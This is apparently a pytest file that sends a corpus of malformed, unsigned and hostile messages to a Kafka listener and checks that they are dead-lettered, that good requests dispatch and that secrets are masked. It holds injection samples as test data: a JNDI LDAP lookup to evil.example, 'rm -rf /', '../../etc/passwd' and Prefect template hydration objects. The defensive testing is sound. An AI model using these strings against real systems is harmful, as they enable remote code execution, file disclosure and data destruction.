"""A corpus of malformed and hostile requests, interleaved with good ones.

Every bad message must land in the dead-letter topic with the reason and either its
original bytes (secret parameters masked) or, where the parameter schema cannot
vouch for every value, metadata only; a ``rejected`` status is published when the
message is authenticated and its id readable. Every good one must become a flow
run with its parameters verbatim, and the listener must keep running. The secrets
in play (the signing secret every message is signed with, the secret parameter
values some requests carry) must appear in no status, dead letter or log.
"""

import hashlib
import json
import os
import uuid

from prefect import get_client
from prefect.client.schemas.actions import VariableCreate
from pydantic import SecretStr

from blocks import KafkaConnection
from flows.listener.dead_letters import (
    CONTENT_HEADER,
    ORIGINAL_SHA256_HEADER,
    REASON_HEADER,
    REDACTED_HEADER,
    SOURCE_OFFSET_HEADER,
    SOURCE_TOPIC_HEADER,
)
from flows.registry import REDACTED
from magicflow.messages import SIGNATURE_HEADER, sign
from tests.fixtures.kafka import (
    produce,
    read_topic,
    running_listener,
    statuses_of,
    wait_for_committed,
    wait_for_runs,
)

SIGNING_SECRET = SecretStr("signing-secret-" + uuid.uuid4().hex)
TOKEN = "token-value-" + uuid.uuid4().hex
BAD_TOKEN = "bad-token-value-" + uuid.uuid4().hex
VARIABLE_VALUE = "variable-value-" + uuid.uuid4().hex
MAX_MESSAGE_BYTES = 64_000


def _json(document: object) -> bytes:
    return json.dumps(document).encode()


def _dead_letter_copy(value: bytes) -> bytes:
    """The masked copy of a request whose secret parameter values the schema names."""
    if not any(t.encode() in value for t in (TOKEN, BAD_TOKEN)):
        return value
    document = json.loads(value)
    document["parameters"]["token"] = REDACTED
    return json.dumps(document).encode()


KEPT = "kept"
"""A corpus case whose dead letter keeps the (masked) request: the schema knows every field."""


class Case:
    """One corpus message and what must become of it."""

    def __init__(
        self,
        value: bytes | None,
        reason: str | None,
        request_id: str | None = None,
        *,
        key: bytes | None = None,
        headers: list[tuple[str, bytes]] | None = None,
        kept: bool = False,
    ) -> None:
        self.value = value
        self.reason = reason  # None: a good request
        self.request_id = request_id  # the id a rejected status is published for
        self.key = key if key is not None else request_id.encode() if request_id else b"k"
        self.headers = headers
        self.kept = kept  # the dead letter keeps the (masked) request, not metadata only

    def message(self) -> tuple[bytes | None, bytes | None, list[tuple[str, bytes]]]:
        headers = self.headers
        if headers is None:
            headers = (
                [(SIGNATURE_HEADER, sign(self.value, SIGNING_SECRET).encode())]
                if self.value is not None
                else []
            )
        return self.key, self.value, headers


def _corpus(prefix: str, kafka: KafkaConnection, variable: str) -> list[Case]:
    def rid(name: str) -> str:
        return f"{prefix}-{name}"

    def req(name: str, workflow: str = "greet", **fields: object) -> tuple[str, bytes]:
        document = {"id": rid(name), "workflow": workflow, "parameters": {"name": "ada"}, **fields}
        return rid(name), _json(document)

    cases: list[Case] = []

    def good(name: str, **fields: object) -> None:
        request_id, value = req(name, **fields)
        cases.append(Case(value, None, request_id))

    def bad(value: bytes | None, reason: str, request_id: str | None = None, **options) -> None:
        cases.append(Case(value, reason, request_id, **options))

    def bad_request(
        name: str,
        reason: str,
        workflow: str = "greet",
        readable: bool = True,
        kept: bool = True,
        **fields: object,
    ) -> None:
        request_id, value = req(name, workflow, **fields)
        bad(value, reason, request_id if readable else None, key=request_id.encode(), kept=kept)

    good("plain")
    bad(os.urandom(48) + b"\xff", "not UTF-8")
    bad(b"\xff\xfe" + req("bad-utf8")[1], "not UTF-8")
    bad(b"", "not JSON")
    bad(None, "empty message", key=prefix.encode())
    bad(b"[" * 5000 + b"]" * 5000, "nested deeper")
    good("template-jinja", parameters={"name": "{{ prefect.variables." + variable + " }}"})
    bad_request(
        "deep-params",
        "nested deeper",
        kept=False,
        parameters={"name": json.loads("[" * 40 + "]" * 40)},
    )
    bad_request(
        "oversized",
        "exceeds",
        readable=False,
        kept=False,
        parameters={"name": "x" * MAX_MESSAGE_BYTES},
    )
    bad(
        b'{"id": "%s", "workflow": "greet", "parameters": {"name": "a", "times": 1e999}}'
        % rid("inf").encode(),
        "out of range",
    )
    bad(
        b'{"id": "%s", "workflow": "greet", "parameters": {"name": "a", "times": %s}}'
        % (rid("bigint").encode(), b"9" * 5000),
        "integer longer",
    )
    bad(
        b'{"id": "%s", "workflow": "greet", "parameters": {"name": "a", "times": NaN}}'
        % rid("nan").encode(),
        "NaN",
    )
    good("template-jndi", parameters={"name": "${jndi:ldap://evil.example/a}", "times": 2})
    bad(b"[]", "JSON object")
    bad(b'"just a string"', "JSON object")
    bad(b"42", "JSON object")
    bad(b"null", "JSON object")
    bad(
        _json({"workflow": "greet", "parameters": {"name": "x"}, "n": prefix}), "id: Field required"
    )
    bad(_json({"id": rid("no-workflow")}), "workflow: Field required", rid("no-workflow"))
    bad(
        _json({"id": 12345, "workflow": "greet", "n": prefix}), "id: Input should be a valid string"
    )
    bad_request("params-list", "parameters", kept=False, parameters=["ada"])
    bad_request("dry-run-string", "dry_run: Input should be a valid boolean", dry_run="yes")
    bad_request("dry-run-false", "dry_run: Input should be a valid boolean", dry_run="false")
    bad_request("extra-field", "evil: Extra inputs are not permitted", kept=False, evil=True)
    good("dry-run", dry_run=True)
    bad_request(
        "unknown-workflow", "not a registered workflow", workflow="rm-rf-everything", kept=False
    )
    bad_request("bad-workflow-name", "workflow", workflow="../../etc/passwd", kept=False)
    bad(
        _json({"id": "a b/../" + prefix, "workflow": "greet"}),
        "id: String should match pattern",
        kept=True,
    )
    request_id, value = req("wrong-key")
    bad(value, "key must be the request id", request_id, key=b"another-key", kept=True)
    bad_request(
        "wrong-type",
        "times: Input should be a valid integer",
        parameters={"name": "ada", "times": "many"},
    )
    bad_request(
        "number-as-string",
        "times: Input should be a valid integer",
        parameters={"name": "ada", "times": "2"},
    )
    bad_request("missing-param", "name: Field required", parameters={"times": 2})
    bad_request(
        "unknown-param",
        "shell: Extra inputs are not permitted",
        kept=False,
        parameters={"name": "ada", "shell": "rm -rf /"},
    )
    bad_request(
        "secret",
        "token: secret parameters cannot be sent in a request",
        workflow="rotate-token",
        parameters={"target": "api", "token": TOKEN},
    )
    bad_request(
        "hydrate-variable",
        "__prefect_kind",
        parameters={"name": {"__prefect_kind": "workspace_variable", "variable_name": variable}},
    )
    bad_request(
        "hydrate-jinja",
        "__prefect_kind",
        parameters={"name": {"__prefect_kind": "jinja", "template": "{{ 7 * 7 }}"}},
    )
    bad_request(
        "dry-run-unsupported",
        "no dry-run mode",
        workflow="rotate-token",
        dry_run=True,
        parameters={"target": "api", "token": BAD_TOKEN},
    )
    bad_request(
        "secret-invalid",
        "target: Field required",
        workflow="rotate-token",
        parameters={"token": BAD_TOKEN},
    )
    bad_request(
        "dry-run-in-params",
        "set dry_run in the request",
        parameters={"name": "ada", "dry_run": True},
    )
    bad_request("reply-to-requests", "reply_topic", reply_topic=kafka.requests_topic)
    bad_request("nul", "NUL", kept=False, parameters={"name": "a\u0000b"})
    bad(
        b'{"id": "%s", "workflow": "greet", "parameters": {"name": "\\ud800"}}'
        % rid("surrogate").encode(),
        "surrogate",
        rid("surrogate"),
    )
    good("last")
    # Signatures: every case above is signed with the right secret; these are not, and
    # an unauthenticated message gets no status, not even for an id that exists.
    _, value = req("plain", workflow="rm-rf-everything")
    bad(value, "missing signature", headers=[], key=rid("plain").encode())
    _, value = req("wrong-secret")
    bad(
        value,
        "bad signature",
        headers=[(SIGNATURE_HEADER, sign(value, SecretStr("guess")).encode())],
    )
    _, value = req("replayed-signature")
    other = req("other")[1]
    bad(value, "bad signature", headers=[(SIGNATURE_HEADER, sign(other, SIGNING_SECRET).encode())])
    _, value = req("garbage-signature")
    bad(value, "bad signature", headers=[(SIGNATURE_HEADER, b"\xff\x00sha256=")])
    return cases


async def test_bad_requests_are_dead_lettered_and_good_ones_dispatched(
    kafka: KafkaConnection, kafka_test_deployments: list[str], captured_logs
) -> None:
    kafka = kafka.model_copy(update={"signing_secret": SIGNING_SECRET})
    prefix = f"bad{uuid.uuid4().hex[:6]}"
    variable = f"kafka_test_{prefix}"
    async with get_client() as client:
        await client.create_variable(VariableCreate(name=variable, value=VARIABLE_VALUE))
    cases = _corpus(prefix, kafka, variable)
    bad_cases = [case for case in cases if case.reason is not None]
    good_cases = [case for case in cases if case.reason is None]
    assert len(bad_cases) >= 30
    await produce(kafka, [case.message() for case in cases])

    async with running_listener(kafka, max_message_bytes=MAX_MESSAGE_BYTES) as listener:
        dead = await read_topic(kafka, kafka.dead_letter_topic, lambda r: len(r) >= len(bad_cases))
        runs = await wait_for_runs(prefix, len(good_cases))
        # Still listening after the corpus: one more good request goes through.
        late_id = f"{prefix}-late"
        late = _json({"id": late_id, "workflow": "greet", "parameters": {"name": "z"}})
        await produce(
            kafka,
            [(late_id.encode(), late, [(SIGNATURE_HEADER, sign(late, SIGNING_SECRET).encode())])],
        )
        statuses = await read_topic(
            kafka,
            kafka.status_topic,
            lambda r: any(
                s["request_id"] == late_id and s["state"] == "scheduled" for s in statuses_of(r)
            ),
        )
        assert await wait_for_committed(kafka, len(cases) + 1) == len(cases) + 1
    assert listener.counts.rejected == len(bad_cases)

    # Every bad message is in the DLQ with its reason and source: the (masked) request
    # where its schema vouches for every field, metadata only otherwise.
    by_sha = {}
    for record in dead:
        headers = {key: value.decode() for key, value in record.headers}
        assert headers[SOURCE_TOPIC_HEADER] == kafka.requests_topic
        assert int(headers[SOURCE_OFFSET_HEADER]) >= 0
        by_sha.setdefault(headers[ORIGINAL_SHA256_HEADER], []).append((record, headers))
    for case in bad_cases:
        sha = hashlib.sha256(case.value or b"").hexdigest()
        matching = [
            (record, headers)
            for record, headers in by_sha[sha]
            if case.reason in headers[REASON_HEADER]
        ]
        assert matching, (case.reason, [h[REASON_HEADER] for _, h in by_sha[sha]])
        record, headers = matching[0]
        if case.kept:
            assert record.value == _dead_letter_copy(case.value), case.reason
            assert headers[CONTENT_HEADER] in ("original", "redacted")
        else:
            assert headers[CONTENT_HEADER] == "metadata", case.reason
            assert json.loads(record.value)["sha256"] == sha
    masked = [r for r in dead if (REDACTED_HEADER, b"parameters.token") in list(r.headers)]
    assert len(masked) == 3  # the secret, dry-run-unsupported and secret-invalid cases

    # Authenticated, readable ids get a rejected status with the same reason; nothing else.
    status_list = statuses_of(statuses)
    rejected = {s["request_id"]: s["reason"] for s in status_list if s["state"] == "rejected"}
    expected_rejected = {case.request_id: case.reason for case in bad_cases if case.request_id}
    assert set(rejected) == set(expected_rejected)
    for request_id, fragment in expected_rejected.items():
        assert fragment in rejected[request_id]
    plain = [s["state"] for s in status_list if s["request_id"] == f"{prefix}-plain"]
    assert plain == ["accepted", "scheduled"]

    # Every good request became one run, with its parameters verbatim (templates not rendered).
    by_name = {run.name: run for run in runs}
    assert len(runs) == len(good_cases)
    assert by_name[f"greet-{prefix}-template-jinja"].parameters == {
        "name": "{{ prefect.variables." + variable + " }}"
    }
    assert by_name[f"greet-{prefix}-template-jndi"].parameters == {
        "name": "${jndi:ldap://evil.example/a}",
        "times": 2,
    }
    assert by_name[f"greet-{prefix}-dry-run"].parameters == {"name": "ada", "dry_run": True}
    assert all(VARIABLE_VALUE not in json.dumps(run.parameters) for run in runs)

    # The secrets in play appear in no status, dead letter or log line.
    topics = b"\n".join(
        b"\n".join([record.key or b"", record.value or b"", *(v for _, v in record.headers)])
        for record in [*statuses, *dead]
    )
    for secret in (SIGNING_SECRET.get_secret_value(), TOKEN, BAD_TOKEN):
        assert secret.encode() not in topics
        assert secret not in captured_logs.text
    assert "Dead-lettered" in captured_logs.text
    assert "Kafka listener starting" in captured_logs.text
    assert VARIABLE_VALUE.encode() not in topics
